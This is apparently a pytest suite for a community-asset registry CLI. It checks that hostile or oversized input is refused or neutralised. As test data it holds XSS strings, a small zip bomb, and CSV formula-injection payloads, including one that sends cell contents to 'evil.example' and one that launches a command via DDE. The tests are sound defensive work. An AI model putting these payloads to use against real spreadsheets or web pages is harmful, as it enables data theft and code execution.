"""Operator options and numbers reach pages and queries only once checked: a clear refusal, never a traceback or a live script."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from registry.cli import cli


def invoke(runner: CliRunner, db: Path, *args: str) -> tuple[int, str]:
    result = runner.invoke(cli, ["--db", str(db), *args])
    return result.exit_code, result.output


@pytest.mark.parametrize("window", ["8000y", "99999999999999999999d", "40000"])
def test_a_window_past_a_century_is_refused_with_the_limit(runner: CliRunner, example_registry: Path, window: str) -> None:
    code, output = invoke(runner, example_registry, "agreements", "expiring", "--within", window)
    assert code == 1 and "at most 100 years" in output and "Traceback" not in output


@pytest.mark.parametrize(
    "command",
    [
        ["search", "asilo", "--limit"],
        ["log", "--limit"],
        ["preview", "--output", ".", "--port"],
        ["serve", "--no-publish", "--port"],
        ["import", "assets", "x.csv", "--max-mb"],
        ["import", "assets", "x.csv", "--max-records"],
    ],
)
def test_a_huge_number_is_refused_with_its_range(runner: CliRunner, example_registry: Path, command: list[str]) -> None:
    code, output = invoke(runner, example_registry, *command, "99999999999999999999")
    assert code == 2 and command[-1] in output and "range" in output and "Traceback" not in output


@pytest.mark.parametrize(
    ("option", "value"),
    [("--datasette-url", "javascript:alert(1)"), ("--site-url", "data:text/html,x"), ("--tiles-url", "javascript:alert(1)//{z}")],
)
def test_an_address_that_is_not_a_web_address_is_refused(
    runner: CliRunner, example_registry: Path, tmp_path: Path, option: str, value: str
) -> None:
    code, output = invoke(runner, example_registry, "build", "-o", str(tmp_path / "site"), "--lang", "en", option, value)
    assert code == 1 and option in output and "is not a web address" in output and "Traceback" not in output
    assert not (tmp_path / "site" / "index.html").exists()


def test_the_tiles_credit_reaches_the_maps_as_text_and_web_links_only(runner: CliRunner, example_registry: Path, tmp_path: Path) -> None:
    credit = '<img src=x onerror=alert(1)>Tiles by <a href="javascript:alert(2)">us</a> and <a href="https://tiles.example.org/">them</a>'
    code, output = invoke(
        runner, example_registry, "build", "-o", str(tmp_path / "site"), "--lang", "en", "--no-search", "--tiles-attribution", credit
    )
    assert code == 0, output
    for page in (tmp_path / "site" / "map").glob("*.html"):
        html = page.read_text(encoding="utf-8")
        assert "onerror" not in html and "javascript:" not in html
    assert "https://tiles.example.org/" in (tmp_path / "site" / "map" / "overview.html").read_text(encoding="utf-8")


def test_another_programs_sqlite_file_is_refused_and_left_byte_for_byte(runner: CliRunner, tmp_path: Path) -> None:
    import sqlite3

    other = tmp_path / "other-app.db"
    conn = sqlite3.connect(other)
    conn.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, text TEXT)")
    conn.execute("INSERT INTO notes (text) VALUES ('keep me')")
    conn.commit()
    conn.close()
    before = other.read_bytes()
    for command in (
        ["list", "assets"],
        ["check"],
        ["add", "assets", "--set", "id=x", "--set", "name=X", "--set", "kind=land", "--set", "status=mapped"],
    ):
        code, output = invoke(runner, other, *command)
        assert code == 1 and "is not a commons registry" in output and "Traceback" not in output
    assert other.read_bytes() == before
    assert not Path(f"{other}-wal").exists()


def test_a_file_mixing_utf8_and_windows_1252_is_refused_at_the_line_that_does_not_fit(
    runner: CliRunner, db_path: Path, tmp_path: Path
) -> None:
    mixed = tmp_path / "actors.csv"
    mixed.write_bytes("id,name,kind\ncafe-a,Café Àpart,cooperative\n".encode() + b"cafe-b,Caf\xe9 B,cooperative\n")
    code, output = invoke(runner, db_path, "import", "actors", str(mixed))
    assert code == 1 and "line 3" in output and "0xe9" in output and "mixes two encodings" in output
    assert "Traceback" not in output
    code, output = invoke(runner, db_path, "list", "actors")
    assert "cafe-a" not in output  # nothing imported


def test_a_file_wholly_in_windows_1252_is_still_read(runner: CliRunner, db_path: Path, tmp_path: Path) -> None:
    table = tmp_path / "actors.csv"
    table.write_bytes(b"id,name,kind\ncafe-b,Caf\xe9 B,cooperative\n")
    code, output = invoke(runner, db_path, "import", "actors", str(table))
    assert code == 0, output
    assert "Café B" in invoke(runner, db_path, "show", "actors", "cafe-b")[1]


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_name_is_written_to_every_csv_as_text_and_read_back_exactly(
    runner: CliRunner, db_path: Path, tmp_path: Path, formula: str
) -> None:
    import csv
    import json

    code, output = invoke(runner, db_path, "add", "actors", "--set", "id=trap", "--set", f"name={formula}", "--set", "kind=other")
    assert code == 0, output
    exported = tmp_path / "actors.csv"
    invoke(runner, db_path, "export", "actors", "--format", "csv", "-o", str(exported))
    public = tmp_path / "public"
    invoke(runner, db_path, "publish", "-o", str(public))
    listed = tmp_path / "listed.csv"
    listed.write_text(invoke(runner, db_path, "list", "actors", "--csv")[1], encoding="utf-8")
    for written in (exported, public / "actors.csv", listed):
        with written.open(encoding="utf-8", newline="") as f:
            names = [row["name"] for row in csv.DictReader(f)]
        assert names == ["'" + formula], written
    assert json.loads((public / "actors.json").read_text(encoding="utf-8"))[0]["name"] == formula
    fresh = tmp_path / "fresh.db"
    invoke(runner, fresh, "init")
    assert invoke(runner, fresh, "import", "actors", str(exported))[0] == 0
    assert json.loads(invoke(runner, fresh, "show", "actors", "trap", "--json")[1])["name"] == formula


def test_a_column_no_declaration_knows_is_never_published_and_check_says_so(
    runner: CliRunner, example_registry: Path, tmp_path: Path
) -> None:
    import sqlite3

    conn = sqlite3.connect(example_registry)
    conn.execute("ALTER TABLE assets ADD COLUMN caretaker_phone TEXT")
    conn.execute("UPDATE assets SET caretaker_phone = 'canary-555-0199'")
    conn.commit()
    conn.close()
    code, output = invoke(runner, example_registry, "check")
    assert "caretaker_phone" in output and "never published" in output
    public = tmp_path / "public"
    assert invoke(runner, example_registry, "publish", "-o", str(public))[0] == 0
    for published in public.rglob("*"):
        if published.is_file():
            assert b"canary-555-0199" not in published.read_bytes(), published


@pytest.mark.parametrize("text", [" ".join(["asilo"] * 5000), "x" * 5000])
def test_a_search_of_thousands_of_words_is_refused_at_once_with_the_limit(runner: CliRunner, example_registry: Path, text: str) -> None:
    code, output = invoke(runner, example_registry, "search", text)
    assert code == 1 and "at most" in output and "Traceback" not in output


def test_building_into_the_registrys_folder_is_refused_and_writes_nothing(runner: CliRunner, example_registry: Path) -> None:
    folder = example_registry.parent
    before = sorted(p.name for p in folder.iterdir())
    code, output = invoke(runner, example_registry, "build", "--output", str(folder), "--lang", "en", "--no-search")
    assert code != 0 and "refusing to build into" in output and example_registry.name in output
    assert sorted(p.name for p in folder.iterdir()) == before


def test_previewing_a_folder_that_holds_a_database_is_refused(runner: CliRunner, example_registry: Path, tmp_path: Path) -> None:
    code, output = invoke(runner, example_registry, "preview", "--output", str(example_registry.parent), "--port", "0")
    assert code != 0 and "refusing to serve" in output and example_registry.name in output
    site = tmp_path / "site"
    (site / "data").mkdir(parents=True)
    (site / "data" / "copy-of-registry.sqlite").write_bytes(example_registry.read_bytes())
    code, output = invoke(runner, example_registry, "preview", "--output", str(site), "--port", "0")
    assert code != 0 and "data/copy-of-registry.sqlite" in output


def registry_with_a_newer_schema(example_registry: Path) -> None:
    """What a newer commons leaves behind: a schema change this one does not know."""
    import sqlite3

    conn = sqlite3.connect(example_registry)
    with conn:
        conn.execute(
            "INSERT INTO _sqlite_migrations (migration_set, name, applied_at) VALUES ('commons', 'm999_from_a_newer_version', '2030')"
        )
    conn.close()


def test_a_registry_from_a_newer_version_is_read_read_only_and_never_written(runner: CliRunner, example_registry: Path) -> None:
    registry_with_a_newer_schema(example_registry)
    before = example_registry.read_bytes()
    code, output = invoke(runner, example_registry, "list", "assets")
    assert code == 0 and "read-only" in output and "newer version" in output and "nap-asilo" in output
    code, output = invoke(runner, example_registry, "add", "assets", "--set", "id=new-place", "--set", "name=New place")
    assert code != 0 and "newer version of commons" in output and "upgrade" in output
    assert example_registry.read_bytes() == before


@pytest.fixture
def unwritable_folder(tmp_path: Path) -> Iterator[Path]:
    """A folder nobody may write to, root included: read-only permissions, and the immutable flag for root."""
    import os
    import subprocess

    folder = tmp_path / "read-only"
    folder.mkdir()
    yield folder
    if os.geteuid() == 0:
        subprocess.run(["chattr", "-i", str(folder)], check=False, capture_output=True)
    folder.chmod(0o755)


def make_unwritable(folder: Path) -> None:
    import os
    import subprocess

    if os.geteuid() == 0:
        made = subprocess.run(["chattr", "+i", str(folder)], check=False, capture_output=True)
        if made.returncode != 0:
            pytest.skip(f"cannot make a folder read-only for root here: {made.stderr.decode().strip()}")
    else:
        for path in folder.iterdir():
            path.chmod(0o444)
        folder.chmod(0o555)


def test_on_a_read_only_disk_reading_commands_and_backup_still_work(
    runner: CliRunner, example_registry: Path, unwritable_folder: Path, tmp_path: Path
) -> None:
    db = unwritable_folder / "registry.db"
    db.write_bytes(example_registry.read_bytes())
    make_unwritable(unwritable_folder)
    for command in (["list", "assets"], ["show", "assets", "nap-asilo"], ["search", "asilo"], ["log", "--limit", "3"], ["check"]):
        code, output = invoke(runner, db, *command)
        assert code == 0, (command, output)
        assert "read-only" in output
    code, output = invoke(runner, db, "backup", str(tmp_path / "copy.db"))
    assert code == 0 and (tmp_path / "copy.db").is_file(), output
    code, output = invoke(runner, db, "edit", "assets", "nap-asilo", "--set", "name=Changed")
    assert code != 0 and "read-only" in output


@pytest.mark.parametrize(
    ("rows", "line"),
    [
        ("x1," + "a" * 10_000_000 + ",building,occupied\n", 2),  # a 10 MB value on the first record
        ('x0,A,building,occupied\nx1,"' + "a\nb" * 10 + "a" * 200_000 + '",building,occupied\n', 3),  # a quoted value over lines
    ],
)
def test_an_overlong_value_is_reported_at_the_line_its_record_begins(
    runner: CliRunner, example_registry: Path, tmp_path: Path, rows: str, line: int
) -> None:
    source = tmp_path / "places.csv"
    source.write_text("id,name,kind,status\n" + rows, encoding="utf-8")
    code, output = invoke(runner, example_registry, "import", "assets", str(source))
    # Whether the csv module's own limit stops it first (its default) or the field's (when a library raised
    # that process-wide limit), the line is where the record begins and the limit is named.
    assert code != 0 and f"places.csv line {line}: " in output
    assert "the 20,000 a field may hold" in output or "at most 20000 are allowed" in output


def test_an_archive_that_expands_past_the_limit_is_refused_from_its_directory(
    runner: CliRunner, example_registry: Path, tmp_path: Path
) -> None:
    import zipfile

    bomb = tmp_path / "places.zip"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("places.shp", b"\0" * 30_000_000)  # 30 MB of zeros, a few kilobytes zipped
    assert bomb.stat().st_size < 100_000
    code, output = invoke(runner, example_registry, "import", "assets", str(bomb), "--max-mb", "10")
    assert code != 0 and "expands to 30 MB, over the 10 MB" in output and "--max-mb 31" in output


def test_more_features_than_the_limit_are_refused_with_the_option_that_raises_it(
    runner: CliRunner, example_registry: Path, tmp_path: Path
) -> None:
    import json

    features = [
        {
            "type": "Feature",
            "geometry": {"type": "Point", "coordinates": [14.25 + n / 1000, 40.85]},
            "properties": {"id": f"p-{n}", "name": f"Place {n}", "kind": "building", "status": "unused"},
        }
        for n in range(30)
    ]
    source = tmp_path / "places.geojson"
    source.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
    code, output = invoke(runner, example_registry, "import", "assets", str(source), "--max-records", "20", "--dry-run")
    assert code != 0 and "holds 30 features, over the 20 one import takes" in output and "--max-records 30" in output
    code, output = invoke(runner, example_registry, "import", "assets", str(source), "--max-records", "30", "--dry-run")
    assert code == 0 and "Would add 30 assets" in output, output


def test_a_csv_over_the_size_limit_is_refused_before_it_is_read(runner: CliRunner, example_registry: Path, tmp_path: Path) -> None:
    source = tmp_path / "assets.csv"
    source.write_text(
        "id,name,kind,status\n" + "".join(f"big-{n},Place {n:07d},building,unused\n" for n in range(60_000)), encoding="utf-8"
    )
    code, output = invoke(runner, example_registry, "import", str(source), "--max-mb", "1")
    assert code != 0 and "over the 1.0 MB one import reads" in output and "--max-mb 3" in output
